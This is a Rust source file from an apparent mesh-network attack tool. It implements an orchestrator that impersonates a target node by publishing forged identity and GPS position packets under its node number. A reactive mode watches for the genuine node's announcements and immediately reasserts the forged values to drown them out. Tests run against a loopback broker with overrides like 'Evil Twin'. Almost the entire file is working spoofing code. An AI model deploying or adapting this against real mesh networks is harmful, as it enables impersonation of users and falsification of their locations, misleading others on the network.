//! Spoofing Orchestrator
//!
//! Impersonates one node by publishing forged identity and position packets
//! from its node number.
//!
//! ## Strategies
//!
//! | Strategy | Freeze | Behavior                                              |
//! |----------|--------|-------------------------------------------------------|
//! | Direct   | no     | one identity burst, one position burst, done          |
//! | Reactive | yes    | reassert whenever the genuine node announces otherwise |
//! | Periodic | no     | identity + position bursts every interval             |
//! | Hybrid   | yes    | periodic in the background, reactive in the foreground |
//!
//! The target's store record is frozen while the session listens, so the
//! genuine node's announcements do not overwrite it. The freeze is released
//! on every exit path.

use std::fmt;
use std::str::FromStr;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;

use meshjack_client::{
    DispatchFilter, MeshClient, ObserverError, PacketEvent, SendOutcome, SendRequest, Sender,
};
use meshjack_core::{NodeNumber, PortNum};
use meshjack_protocol::OutboundPayload;
use meshjack_store::{NodeStore, NodeUpdate};
use meshjack_timing::{Burst, Ticker};
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::errors::{SpoofError, SpoofResult};
use crate::params::{EffectiveParams, SpoofOverrides};

// =============================================================================
// STRATEGY
// =============================================================================

/// How a session emits forged packets
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Strategy {
    Direct,
    Reactive,
    Periodic,
    Hybrid,
}

impl Strategy {
    pub fn name(&self) -> &'static str {
        match self {
            Strategy::Direct => "direct",
            Strategy::Reactive => "reactive",
            Strategy::Periodic => "periodic",
            Strategy::Hybrid => "hybrid",
        }
    }

    /// Whether the strategy listens and therefore freezes the target
    pub fn freezes(&self) -> bool {
        matches!(self, Strategy::Reactive | Strategy::Hybrid)
    }
}

impl FromStr for Strategy {
    type Err = SpoofError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "direct" => Ok(Strategy::Direct),
            "reactive" => Ok(Strategy::Reactive),
            "periodic" => Ok(Strategy::Periodic),
            "hybrid" => Ok(Strategy::Hybrid),
            _ => Err(SpoofError::UnknownStrategy(s.to_string())),
        }
    }
}

impl fmt::Display for Strategy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

// =============================================================================
// PLAN
// =============================================================================

/// Everything a session needs besides the client
#[derive(Debug, Clone, PartialEq)]
pub struct SpoofPlan {
    pub target: NodeNumber,
    pub destination: NodeNumber,
    /// Gateway topic to publish on; the target itself when `None`
    pub gateway: Option<NodeNumber>,
    pub strategy: Strategy,
    pub overrides: SpoofOverrides,
    /// Ask receivers to answer forged NodeInfo
    pub want_response: bool,
    pub direct_burst: Burst,
    pub reactive_burst: Burst,
    pub periodic_burst: Burst,
    pub interval: Ticker,
}

impl SpoofPlan {
    pub fn new(target: NodeNumber, strategy: Strategy) -> Self {
        Self {
            target,
            destination: NodeNumber::BROADCAST,
            gateway: None,
            strategy,
            overrides: SpoofOverrides::default(),
            want_response: false,
            direct_burst: Burst::direct(),
            reactive_burst: Burst::reactive(),
            periodic_burst: Burst::periodic(),
            interval: Ticker::periodic(),
        }
    }

    pub fn with_overrides(mut self, overrides: SpoofOverrides) -> Self {
        self.overrides = overrides;
        self
    }

    pub fn with_destination(mut self, destination: NodeNumber) -> Self {
        self.destination = destination;
        self
    }

    pub fn with_interval(mut self, interval: Ticker) -> Self {
        self.interval = interval;
        self
    }

    pub fn gateway(&self) -> NodeNumber {
        self.gateway.unwrap_or(self.target)
    }
}

/// Totals for a finished session
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SpoofReport {
    /// Packets published
    pub packets_sent: u32,
    /// Reassertion bursts launched by genuine announcements
    pub reassertions: u32,
    /// Periodic rounds completed
    pub rounds: u64,
}

// =============================================================================
// FREEZE GUARD
// =============================================================================

/// Holds the freeze flag on a node record for its lifetime
///
/// Released explicitly on the normal path and by `Drop` otherwise.
pub struct FreezeGuard {
    store: Arc<dyn NodeStore>,
    node: NodeNumber,
    released: bool,
}

impl FreezeGuard {
    /// Freeze the node, creating its record if needed
    pub fn engage(store: Arc<dyn NodeStore>, node: NodeNumber) -> Self {
        store.add_or_update_node(
            node,
            NodeUpdate {
                freeze: Some(true),
                ..Default::default()
            },
        );
        info!(node = %node, "Node record frozen");
        Self {
            store,
            node,
            released: false,
        }
    }

    pub fn release(mut self) {
        self.unfreeze();
    }

    fn unfreeze(&mut self) {
        if self.released {
            return;
        }
        self.released = true;
        self.store.set_freeze(self.node, false);
        info!(node = %self.node, "Node record unfrozen");
    }
}

impl Drop for FreezeGuard {
    fn drop(&mut self) {
        self.unfreeze();
    }
}

// =============================================================================
// BURSTS
// =============================================================================

/// Send `request` `burst.count()` times, pacing and cancellation per `burst`
///
/// # Returns
/// Number of packets actually published
pub async fn send_burst(
    sender: &Sender,
    request: &SendRequest,
    burst: Burst,
    cancel: &CancellationToken,
) -> u32 {
    let published = AtomicU32::new(0);
    let counter = &published;
    burst
        .run(cancel, move |index| async move {
            match sender.send(request).await {
                Ok(SendOutcome::Sent { packet_id }) => {
                    counter.fetch_add(1, Ordering::Relaxed);
                    debug!(index, packet_id, port = %request.payload.portnum(), "Burst send");
                }
                Ok(SendOutcome::Skipped) => debug!(index, "Burst send skipped"),
                Err(e) => warn!(index, error = %e, "Burst send failed"),
            }
        })
        .await;
    published.load(Ordering::Relaxed)
}

// =============================================================================
// ORCHESTRATOR
// =============================================================================

/// One impersonation session
#[derive(Clone)]
pub struct Orchestrator {
    client: MeshClient,
    sender: Sender,
    plan: SpoofPlan,
    params: EffectiveParams,
}

impl Orchestrator {
    /// Resolve the session parameters and check they can be encoded
    pub fn new(client: MeshClient, plan: SpoofPlan) -> SpoofResult<Self> {
        let stored = client.store().get_node(plan.target);
        let params = EffectiveParams::resolve(&plan.overrides, stored.as_ref());
        params.nodeinfo_payload(false).to_data(plan.target, 0)?;
        params.position_payload().to_data(plan.target, 0)?;

        info!(
            target = %plan.target,
            strategy = %plan.strategy,
            short_name = %params.short_name,
            long_name = %params.long_name,
            hw_model = params.hw_model,
            lat = params.lat,
            lon = params.lon,
            alt = %params.alt,
            "Spoof parameters"
        );

        Ok(Self {
            sender: client.sender(),
            client,
            plan,
            params,
        })
    }

    pub fn params(&self) -> &EffectiveParams {
        &self.params
    }

    pub fn plan(&self) -> &SpoofPlan {
        &self.plan
    }

    fn request(&self, payload: OutboundPayload) -> SendRequest {
        SendRequest::new(self.plan.target, self.plan.destination, payload).via_gateway(self.plan.gateway())
    }

    fn identity_request(&self) -> SendRequest {
        self.request(self.params.nodeinfo_payload(self.plan.want_response))
    }

    fn position_request(&self) -> SendRequest {
        self.request(self.params.position_payload())
    }

    async fn announce(&self, burst: Burst, cancel: &CancellationToken) -> u32 {
        let identity = send_burst(&self.sender, &self.identity_request(), burst, cancel).await;
        let position = send_burst(&self.sender, &self.position_request(), burst, cancel).await;
        identity + position
    }

    /// Run the session until it completes or `cancel` fires
    pub async fn run(&self, cancel: &CancellationToken) -> SpoofResult<SpoofReport> {
        info!(target = %self.plan.target, strategy = %self.plan.strategy, "Spoof session started");
        let result = match self.plan.strategy {
            Strategy::Direct => Ok(self.run_direct(cancel).await),
            Strategy::Periodic => Ok(self.run_periodic(cancel).await),
            Strategy::Reactive => self.run_reactive(cancel).await,
            Strategy::Hybrid => self.run_hybrid(cancel).await,
        };
        match &result {
            Ok(report) => info!(
                sent = report.packets_sent,
                reassertions = report.reassertions,
                rounds = report.rounds,
                "Spoof session finished"
            ),
            Err(e) => warn!(error = %e, "Spoof session failed"),
        }
        result
    }

    async fn run_direct(&self, cancel: &CancellationToken) -> SpoofReport {
        SpoofReport {
            packets_sent: self.announce(self.plan.direct_burst, cancel).await,
            ..Default::default()
        }
    }

    async fn run_periodic(&self, cancel: &CancellationToken) -> SpoofReport {
        let sent = AtomicU32::new(0);
        let sent_ref = &sent;
        let burst = self.plan.periodic_burst;
        let rounds = self
            .plan
            .interval
            .run(cancel, move |round| async move {
                debug!(round, "Periodic announcement");
                sent_ref.fetch_add(self.announce(burst, cancel).await, Ordering::Relaxed);
            })
            .await;
        SpoofReport {
            packets_sent: sent.load(Ordering::Relaxed),
            rounds,
            ..Default::default()
        }
    }

    async fn run_reactive(&self, cancel: &CancellationToken) -> SpoofResult<SpoofReport> {
        let guard = FreezeGuard::engage(Arc::clone(self.client.store()), self.plan.target);
        let result = self.listen_and_reassert(cancel).await;
        guard.release();
        result
    }

    async fn listen_and_reassert(&self, cancel: &CancellationToken) -> SpoofResult<SpoofReport> {
        let (events_tx, mut events) = mpsc::unbounded_channel::<PacketEvent>();
        let observer = move |event: &PacketEvent| -> Result<(), ObserverError> {
            events_tx.send(event.clone()).map_err(|e| e.to_string().into())
        };
        let filter = DispatchFilter::all()
            .from_sender(self.plan.target)
            .with_ports([PortNum::NodeInfo, PortNum::Position]);
        let dispatcher = self.client.dispatcher(filter).with_observer(Arc::new(observer));
        let listener = self.client.listener(dispatcher);

        let burst_cancel = cancel.child_token();
        let mut bursts: JoinSet<u32> = JoinSet::new();
        let mut report = SpoofReport::default();

        let listen = listener.run(cancel);
        tokio::pin!(listen);

        let result = loop {
            tokio::select! {
                outcome = &mut listen => break outcome.map(|_| ()).map_err(SpoofError::from),
                Some(event) = events.recv() => {
                    if !self.params.differs_from(&event) {
                        debug!(event = %event, "Announcement matches forged values");
                        continue;
                    }
                    let request = if event.is_nodeinfo() {
                        self.identity_request()
                    } else {
                        self.position_request()
                    };
                    info!(event = %event, "Genuine announcement differs, reasserting");
                    report.reassertions += 1;

                    let sender = self.sender.clone();
                    let burst = self.plan.reactive_burst;
                    let token = burst_cancel.clone();
                    bursts.spawn(async move { send_burst(&sender, &request, burst, &token).await });
                }
                Some(joined) = bursts.join_next(), if !bursts.is_empty() => match joined {
                    Ok(sent) => report.packets_sent += sent,
                    Err(e) if e.is_cancelled() => {}
                    Err(e) => warn!(error = %e, "Reassertion burst failed"),
                },
            }
        };

        burst_cancel.cancel();
        bursts.abort_all();
        while let Some(joined) = bursts.join_next().await {
            if let Ok(sent) = joined {
                report.packets_sent += sent;
            }
        }

        result.map(|_| report)
    }

    async fn run_hybrid(&self, cancel: &CancellationToken) -> SpoofResult<SpoofReport> {
        let periodic_cancel = cancel.child_token();
        let periodic = {
            let this = self.clone();
            let token = periodic_cancel.clone();
            tokio::spawn(async move { this.run_periodic(&token).await })
        };

        let reactive = self.run_reactive(cancel).await;

        periodic_cancel.cancel();
        let periodic = periodic
            .await
            .map_err(|e| SpoofError::Task(e.to_string()))?;

        reactive.map(|report| SpoofReport {
            packets_sent: report.packets_sent + periodic.packets_sent,
            rounds: periodic.rounds,
            ..report
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use meshjack_client::{ChannelSettings, LoopbackBroker};
    use meshjack_protocol::{
        decode_envelope, decrypt_packet, encode_envelope, nodeinfo_data, seal, wrap_envelope, ChannelContext, Decrypted, MessageIdCounter, NodeIdentity, PacketRoute,
    };
    use meshjack_store::MemoryStore;
    use std::time::Duration;

    const TARGET: NodeNumber = NodeNumber(0xa1b2_c3d4);

    fn client(broker: &LoopbackBroker, store: &MemoryStore) -> MeshClient {
        MeshClient::new(
            Arc::new(broker.clone()),
            Arc::new(store.clone()),
            ChannelSettings::default(),
        )
        .unwrap()
        .with_counter(Arc::new(MessageIdCounter::starting_at(500)))
    }

    fn overrides() -> SpoofOverrides {
        SpoofOverrides {
            short_name: Some("EVL".into()),
            long_name: Some("Evil Twin".into()),
            lat: Some(1.0),
            lon: Some(2.0),
            ..Default::default()
        }
    }

    fn published_ports(broker: &LoopbackBroker) -> Vec<i32> {
        let channel = ChannelContext::new("LongFast", "AQ==").unwrap();
        broker
            .published()
            .iter()
            .filter_map(|m| decode_envelope(&m.payload).ok()?.packet)
            .filter(|p| p.from == TARGET.value())
            .filter_map(|p| match decrypt_packet(&channel, &p) {
                Ok(Decrypted::Data(data)) => Some(data.portnum),
                _ => None,
            })
            .collect()
    }

    async fn wait_for_links(broker: &LoopbackBroker) {
        while broker.open_links() == 0 {
            tokio::task::yield_now().await;
        }
    }

    /// Genuine NodeInfo from the target, published by another gateway
    fn genuine_nodeinfo(id: u32, long_name: &str) -> Vec<u8> {
        let identity = NodeIdentity {
            long_name: long_name.into(),
            short_name: "REAL".into(),
            hw_model: 43,
            public_key: None,
        };
        let data = nodeinfo_data(TARGET, &identity, false).unwrap();
        let channel = ChannelContext::new("LongFast", "AQ==").unwrap();
        let packet = seal(&data, PacketRoute::new(id, TARGET, NodeNumber::BROADCAST), &channel).unwrap();
        encode_envelope(&wrap_envelope(packet, "LongFast", "!00000099"))
    }

    #[test]
    fn test_strategy_parse() {
        assert_eq!("Hybrid".parse::<Strategy>().unwrap(), Strategy::Hybrid);
        assert!("sneaky".parse::<Strategy>().is_err());
        assert!(Strategy::Reactive.freezes());
        assert!(!Strategy::Periodic.freezes());
    }

    #[test]
    fn test_bad_pubkey_rejected_up_front() {
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Direct).with_overrides(SpoofOverrides {
            pubkey: Some("xyz".into()),
            ..Default::default()
        });
        assert!(Orchestrator::new(client(&LoopbackBroker::new(), &store), plan).is_err());
    }

    #[test]
    fn test_out_of_range_position_rejected_up_front() {
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Direct).with_overrides(SpoofOverrides {
            lat: Some(100.0),
            ..overrides()
        });
        assert!(Orchestrator::new(client(&LoopbackBroker::new(), &store), plan).is_err());

        let plan = SpoofPlan::new(TARGET, Strategy::Direct).with_overrides(SpoofOverrides {
            lon: Some(-180.5),
            ..overrides()
        });
        assert!(Orchestrator::new(client(&LoopbackBroker::new(), &store), plan).is_err());
    }

    #[tokio::test]
    async fn test_direct_sends_identity_then_position() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Direct).with_overrides(overrides());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let report = orchestrator.run(&CancellationToken::new()).await.unwrap();
        assert_eq!(report.packets_sent, 2);
        assert_eq!(
            published_ports(&broker),
            vec![PortNum::NodeInfo.to_i32(), PortNum::Position.to_i32()]
        );
        assert!(broker
            .published()
            .iter()
            .all(|m| m.topic == "msh/US/2/e/LongFast/!a1b2c3d4"));
        assert!(!store.get_node(TARGET).map_or(false, |n| n.freeze));
    }

    #[tokio::test(start_paused = true)]
    async fn test_periodic_repeats_until_cancelled() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Periodic)
            .with_overrides(overrides())
            .with_interval(Ticker::new(Duration::from_secs(60)).unwrap());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let trigger = cancel.clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_secs(130)).await;
            trigger.cancel();
        });

        let report = orchestrator.run(&cancel).await.unwrap();
        // Rounds at 0 s, 60 s and 120 s
        assert_eq!(report.rounds, 3);
        assert_eq!(report.packets_sent, 6);
        assert!(!store.get_node(TARGET).map_or(false, |n| n.freeze));
    }

    #[tokio::test]
    async fn test_reactive_freezes_and_releases_on_cancel() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Reactive).with_overrides(overrides());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });

        wait_for_links(&broker).await;
        assert!(store.get_node(TARGET).unwrap().freeze);

        cancel.cancel();
        let report = session.await.unwrap().unwrap();
        assert_eq!(report.reassertions, 0);
        assert!(!store.get_node(TARGET).unwrap().freeze);
    }

    #[tokio::test]
    async fn test_reactive_releases_freeze_when_listener_fails() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Reactive).with_overrides(overrides());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });

        wait_for_links(&broker).await;
        assert!(store.get_node(TARGET).unwrap().freeze);
        broker.close();

        let result = session.await.unwrap();
        assert!(result.is_err());
        assert!(!store.get_node(TARGET).unwrap().freeze);
    }

    #[tokio::test(start_paused = true)]
    async fn test_reactive_reasserts_on_differing_announcement() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        store.add_or_update_node(
            TARGET,
            NodeUpdate {
                long_name: Some("Recorded".into()),
                ..Default::default()
            },
        );
        let plan = SpoofPlan::new(TARGET, Strategy::Reactive).with_overrides(overrides());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });
        wait_for_links(&broker).await;

        broker.inject("msh/US/2/e/LongFast/!00000099", genuine_nodeinfo(1, "Genuine"));

        // Reactive burst: 5 sends, 2 s apart
        tokio::time::sleep(Duration::from_secs(10)).await;
        cancel.cancel();
        let report = session.await.unwrap().unwrap();

        assert_eq!(report.reassertions, 1);
        assert_eq!(report.packets_sent, 5);
        let forged: Vec<_> = broker
            .published()
            .iter()
            .filter_map(|m| decode_envelope(&m.payload).ok()?.packet)
            .collect();
        assert_eq!(forged.len(), 5);

        let record = store.get_node(TARGET).unwrap();
        assert_eq!(record.long_name.as_deref(), Some("Recorded"));
        assert!(!record.freeze);
    }

    #[tokio::test(start_paused = true)]
    async fn test_padded_pubkey_reasserts_once() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let overrides = SpoofOverrides {
            pubkey: Some(" 0A0B0C ".into()),
            ..overrides()
        };
        let plan = SpoofPlan::new(TARGET, Strategy::Reactive).with_overrides(overrides);
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();
        assert_eq!(orchestrator.params().pubkey.as_deref(), Some("0a0b0c"));

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });
        wait_for_links(&broker).await;

        broker.inject("msh/US/2/e/LongFast/!00000099", genuine_nodeinfo(3, "Genuine"));

        // Forged packets echo back through the broker and must not retrigger
        tokio::time::sleep(Duration::from_secs(30)).await;
        cancel.cancel();
        let report = session.await.unwrap().unwrap();

        assert_eq!(report.reassertions, 1);
        assert_eq!(report.packets_sent, 5);
        assert_eq!(published_ports(&broker), vec![PortNum::NodeInfo.to_i32(); 5]);
    }

    #[tokio::test(start_paused = true)]
    async fn test_reactive_ignores_matching_announcement() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let overrides = SpoofOverrides {
            short_name: Some("REAL".into()),
            long_name: Some("Same".into()),
            hw_model: Some(43),
            ..Default::default()
        };
        let plan = SpoofPlan::new(TARGET, Strategy::Reactive).with_overrides(overrides);
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });
        wait_for_links(&broker).await;

        broker.inject("msh/US/2/e/LongFast/!00000099", genuine_nodeinfo(2, "Same"));
        tokio::time::sleep(Duration::from_secs(5)).await;
        cancel.cancel();

        let report = session.await.unwrap().unwrap();
        assert_eq!(report.reassertions, 0);
        assert!(broker.published().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn test_hybrid_runs_both_and_releases_freeze() {
        let broker = LoopbackBroker::new();
        let store = MemoryStore::new();
        let plan = SpoofPlan::new(TARGET, Strategy::Hybrid).with_overrides(overrides());
        let orchestrator = Orchestrator::new(client(&broker, &store), plan).unwrap();

        let cancel = CancellationToken::new();
        let task_cancel = cancel.clone();
        let session = tokio::spawn(async move { orchestrator.run(&task_cancel).await });
        wait_for_links(&broker).await;
        assert!(store.get_node(TARGET).unwrap().freeze);

        tokio::time::sleep(Duration::from_secs(5)).await;
        cancel.cancel();
        let report = session.await.unwrap().unwrap();

        assert!(report.rounds >= 1);
        assert!(report.packets_sent >= 2);
        assert!(!store.get_node(TARGET).unwrap().freeze);

        let ports = published_ports(&broker);
        assert_eq!(&ports[..2], &[PortNum::NodeInfo.to_i32(), PortNum::Position.to_i32()]);
    }
}
